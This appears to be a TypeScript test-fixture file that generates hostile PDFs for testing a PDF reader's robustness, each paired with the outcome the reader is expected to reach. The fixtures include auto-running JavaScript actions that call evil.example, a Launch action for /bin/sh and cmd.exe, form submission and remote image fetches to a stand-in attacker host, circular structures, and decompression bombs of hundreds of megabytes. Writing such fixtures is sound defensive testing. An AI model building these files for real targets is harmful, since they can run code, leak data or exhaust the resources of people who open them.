import { deflateSync } from 'node:zlib'
import { makePdf } from './fixtures.ts'

/**
 * A file that is made to harm, and how opening it ends: with a message, as a document of so many pages, or, where that
 * is a matter of the machine, as one page or with a message. One that is `slow` opens as one page, or is given up once
 * its time is over.
 */
export interface HostileFile {
  name: string
  bytes: Uint8Array<ArrayBuffer>
  ends: 'message' | number | 'either' | 'slow'
}

type PdfObject = string | { dict: string; data: string | Uint8Array }

const latin1 = (text: string): Uint8Array => Buffer.from(text, 'latin1')

/** A file of these objects, numbered from 1; the first is the catalogue. Its table of contents is right unless given. */
function pdf(objects: PdfObject[], end?: (offsets: number[], length: number) => string): Uint8Array<ArrayBuffer> {
  const parts = [latin1('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n')]
  const offsets: number[] = []
  let length = parts[0]?.length ?? 0
  const add = (part: Uint8Array) => {
    parts.push(part)
    length += part.length
  }
  for (const [index, object] of objects.entries()) {
    offsets.push(length)
    if (typeof object === 'string') add(latin1(`${index + 1} 0 obj\n${object}\nendobj\n`))
    else {
      const data = typeof object.data === 'string' ? latin1(object.data) : object.data
      add(latin1(`${index + 1} 0 obj\n<</Length ${data.length} ${object.dict}>>\nstream\n`))
      add(data)
      add(latin1('\nendstream\nendobj\n'))
    }
  }
  const entries = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('')
  const table = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${entries}`
  const usual = `${table}trailer\n<</Size ${objects.length + 1}/Root 1 0 R>>\nstartxref\n${length}\n%%EOF\n`
  add(latin1(end?.(offsets, length) ?? usual))
  return new Uint8Array(Buffer.concat(parts))
}

const CATALOG = '<</Type/Catalog/Pages 2 0 R>>'
const ONE_PAGE = '<</Type/Pages/Kids[3 0 R]/Count 1>>'
const PAGE = '<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]/Resources<<'

/** One page with a content and resources, and further objects from number 5 on. */
function onePage(content: PdfObject, resources = '', more: PdfObject[] = [], catalog = '', page = ''): PdfObject[] {
  return [
    `<</Type/Catalog/Pages 2 0 R${catalog}>>`,
    ONE_PAGE,
    `${PAGE}${resources}>>/Contents 4 0 R${page}>>`,
    content,
    ...more,
  ]
}

const plain = (data: string, dict = ''): PdfObject => ({ dict, data })
const packed = (data: Uint8Array, dict = ''): PdfObject => ({
  dict: `/Filter/FlateDecode ${dict}`,
  data: deflateSync(data, { level: 9 }),
})
const megabytes = (count: number, text: string) => Buffer.alloc(count * 1_000_000, text)

const ALERT = 'app.alert\\(1\\);app.launchURL\\("https://evil.example/"\\)'
const SCRIPT = `<</S/JavaScript/JS(${ALERT})>>`

/** Things that act by themselves in viewers that let them. */
function acting(): HostileFile[] {
  const font =
    '<</Type/Font/Subtype/Type1/BaseFont/Evil/FontMatrix[0.001 0 0 0.001 0 (0\\);alert\\(1)]/FirstChar 65/LastChar 65/Widths[500]/FontDescriptor 6 0 R>>'
  const descriptor =
    '<</Type/FontDescriptor/FontName/Evil/Flags 4/FontBBox[0 0 1 1]/ItalicAngle 0/Ascent 1/Descent 0/CapHeight 1/StemV 1/FontFile 7 0 R>>'
  const program =
    '%!PS-AdobeFont-1.0: Evil\n/FontMatrix [0.001 0 0 0.001 0 (0\\);alert\\(1)] readonly def\n/Encoding StandardEncoding def\ncurrentfile eexec\n'
  const widget = `<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/Rect[0 0 99 99]/AA<</C ${SCRIPT}/F ${SCRIPT}/V ${SCRIPT}/Fo ${SCRIPT}>>>>`
  const names = `/Names<</JavaScript<</Names[(a)${SCRIPT}]>>>>`
  const xfa =
    '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize"><script>app.alert(1)</script></event></subform></template></xdp:xdp>'
  const submit = '<</S/SubmitForm/F<</FS/URL/F(https://evil.example/)>>>>'
  return [
    {
      name: 'font-matrix',
      bytes: pdf(
        onePage(plain('BT /F 20 Tf 20 200 Td (A) Tj ET'), '/Font<</F 5 0 R>>', [font, descriptor, plain(program)]),
      ),
      ends: 1,
    },
    {
      name: 'scripts',
      bytes: pdf(
        onePage(
          plain(''),
          '',
          [widget, plain(xfa)],
          `/OpenAction ${SCRIPT}/AA<</WC ${SCRIPT}/DS ${SCRIPT}>>${names}/AcroForm<</Fields[5 0 R]/CO[5 0 R]/XFA 6 0 R>>`,
          `/Annots[5 0 R]/AA<</O ${SCRIPT}/C ${SCRIPT}>>`,
        ),
      ),
      ends: 1,
    },
    {
      name: 'launch',
      bytes: pdf(
        onePage(
          plain(''),
          '',
          [],
          '/OpenAction<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)>>>>',
          `/AA<</O ${submit}>>/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 99 99]/A<</S/URI/URI(javascript:alert\\(1\\))>>/AA<</PV<</S/URI/URI(https://evil.example/)>>>>>>]`,
        ),
      ),
      ends: 1,
    },
    {
      name: 'data-from-elsewhere',
      bytes: pdf(
        onePage(plain('q 300 0 0 300 0 0 cm /I Do Q'), '/XObject<</I 5 0 R>>', [
          {
            dict: '/Type/XObject/Subtype/Image/Width 9/Height 9/BitsPerComponent 8/ColorSpace/DeviceGray/F<</FS/URL/F(https://evil.example/a.png)>>',
            data: '',
          },
        ]),
      ),
      ends: 1,
    },
  ]
}

/** Structures that lead back to themselves, or promise what is not there. */
function circles(): HostileFile[] {
  const itself = (dict: string) => ({ dict: `/Type/XObject/Subtype/Form/BBox[0 0 9 9]${dict}`, data: '/X Do /X Do' })
  const depth = 20_000
  const tree = Array.from(
    { length: depth },
    (_, index) => `<</Type/Pages/Parent ${index + 1} 0 R/Kids[${index + 3} 0 R]/Count 1>>`,
  )
  return [
    {
      name: 'ring-of-pages',
      bytes: pdf([CATALOG, '<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>']),
      ends: 'message',
    },
    {
      name: 'deep-page-tree',
      bytes: pdf([CATALOG, ...tree, '<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>']),
      ends: 'slow',
    },
    {
      name: 'two-thousand-million-pages',
      bytes: pdf([CATALOG, '<</Type/Pages/Kids[3 0 R]/Count 2147483647>>', `${PAGE}>>>>`]),
      ends: 1,
    },
    {
      name: 'form-in-itself',
      bytes: pdf(onePage(plain('/X Do'), '/XObject<</X 5 0 R>>', [itself('/Resources<</XObject<</X 5 0 R>>>>')])),
      ends: 'message',
    },
    {
      name: 'bookmarks-in-a-ring',
      bytes: pdf(
        onePage(
          plain(''),
          '',
          ['<</First 6 0 R/Last 6 0 R/Count 9>>', '<</Title(a)/Parent 5 0 R/First 6 0 R/Next 6 0 R/Prev 6 0 R>>'],
          '/Outlines 5 0 R/Names<</Dests 5 0 R/JavaScript<</Kids[1 0 R 1 0 R]>>>>/PageLabels<</Kids[1 0 R]>>',
        ),
      ),
      ends: 1,
    },
    {
      name: 'fields-in-a-ring',
      bytes: pdf(
        onePage(
          plain(''),
          '',
          ['<</T(a)/FT/Tx/Kids[5 0 R 5 0 R]/Parent 5 0 R/Subtype/Widget/Rect[0 0 9 9]/Type/Annot/AP<</N 5 0 R>>>>'],
          '/AcroForm<</Fields[5 0 R 5 0 R]>>',
          '/Annots[5 0 R 5 0 R]',
        ),
      ),
      ends: 1,
    },
    {
      name: 'table-of-contents-in-a-ring',
      bytes: pdf(
        onePage(plain('')),
        (_offsets, length) =>
          `xref\n0 1\n0000000000 65535 f \ntrailer\n<</Size 5/Root 1 0 R/Prev ${length}>>\nstartxref\n${length}\n%%EOF\n`,
      ),
      ends: 1,
    },
    {
      name: 'length-of-itself',
      bytes: pdf([CATALOG, ONE_PAGE, `${PAGE}>>/Contents 4 0 R>>`, '<</Length 4 0 R>>\nstream\nq Q\nendstream']),
      ends: 1,
    },
    {
      name: 'objects-in-themselves',
      bytes: pdf(
        [CATALOG, { dict: '/Type/ObjStm/N 1/First 4/Extends 2 0 R', data: '2 0 <</Type/Pages/Kids[2 0 R]>>' }],
        (_offsets, length) => {
          const entries = Buffer.from([0, 0, 0, 0, 1, 0, 15, 0, 2, 0, 2, 0, 1, length >> 8, length & 255, 0])
          const dict = `/Type/XRef/Size 4/W[1 2 1]/Root 1 0 R/Prev ${length}/Length ${entries.length}`
          return `3 0 obj\n<<${dict}>>\nstream\n${entries.toString('latin1')}\nendstream\nendobj\nstartxref\n${length}\n%%EOF\n`
        },
      ),
      ends: 'message',
    },
  ]
}

/** Little that becomes much: made when it is asked for. */
function bombs(): HostileFile[] {
  const levels = Array.from({ length: 12 }, (_, level) => ({
    dict: `/Type/XObject/Subtype/Form/BBox[0 0 300 300]/Resources<</XObject<</X ${level === 11 ? 5 : level + 6} 0 R>>>>`,
    data: level === 11 ? '0 0 1 1 re f' : '/X Do '.repeat(12),
  }))
  const picture = '/Type/XObject/Subtype/Image/Width 5774/Height 5774/BitsPerComponent 8/ColorSpace/DeviceRGB'
  return [
    {
      name: 'drawing-of-400-MB',
      get bytes() {
        return pdf(onePage(packed(megabytes(400, '0 0 m 9 9 l S '))))
      },
      ends: 'message',
    },
    {
      name: 'nothing-of-100-MB',
      get bytes() {
        return pdf(onePage(packed(megabytes(100, ' '))))
      },
      ends: 'slow',
    },
    {
      name: 'picture-of-100-MB',
      get bytes() {
        const shown = plain('q 300 0 0 300 0 0 cm /I Do Q')
        return pdf(onePage(shown, '/XObject<</I 5 0 R>>', [packed(megabytes(100, '\0'), picture)]))
      },
      ends: 1,
    },
    {
      name: 'packed-twice',
      get bytes() {
        const data = deflateSync(deflateSync(megabytes(400, ' '), { level: 9 }), { level: 9 })
        return pdf(onePage({ dict: '/Filter[/FlateDecode/FlateDecode]', data }))
      },
      ends: 'either',
    },
    {
      name: 'stream-of-100-MB',
      get bytes() {
        return pdf(onePage({ dict: '', data: megabytes(100, ' ') }))
      },
      ends: 1,
    },
    {
      name: 'forms-in-forms',
      bytes: pdf(onePage(plain('/X Do'), '/XObject<</X 5 0 R>>', levels)),
      ends: 'message',
    },
    {
      name: 'brackets',
      bytes: pdf([`<</Type/Catalog/Pages 2 0 R/X ${'['.repeat(2_000_000)}>>`, ONE_PAGE]),
      ends: 'message',
    },
    {
      name: 'page-as-large-as-a-country',
      bytes: pdf([CATALOG, ONE_PAGE, '<</Type/Page/Parent 2 0 R/MediaBox[0 0 1e12 1e12]>>']),
      ends: 1,
    },
  ]
}

/** Files that end too early or are none. */
async function broken(): Promise<HostileFile[]> {
  const whole = await makePdf({ words: ['One', 'Two', 'Three'], bookmarks: [['a', 0]] })
  return [
    { name: 'empty', bytes: new Uint8Array(), ends: 'message' },
    { name: 'first-line-only', bytes: whole.slice(0, 10), ends: 'message' },
    { name: 'half', bytes: whole.slice(0, whole.length >> 1), ends: 2 },
    { name: 'half-of-its-table-of-contents', bytes: whole.slice(0, -40), ends: 3 },
    { name: 'without-its-end', bytes: pdf(onePage(plain('q Q'))).slice(0, -16), ends: 1 },
    { name: 'noise', bytes: new Uint8Array(latin1(`%PDF-1.7\n${'x\0\xff'.repeat(50_000)}`)), ends: 'message' },
  ]
}

export async function hostileFiles(): Promise<HostileFile[]> {
  const words = Array.from({ length: 5000 }, (_, index) => `Page ${index + 1}`)
  const long = { name: 'five-thousand-pages', bytes: await makePdf({ words }), ends: 5000 }
  return [...acting(), ...circles(), ...bombs(), ...(await broken()), long]
}
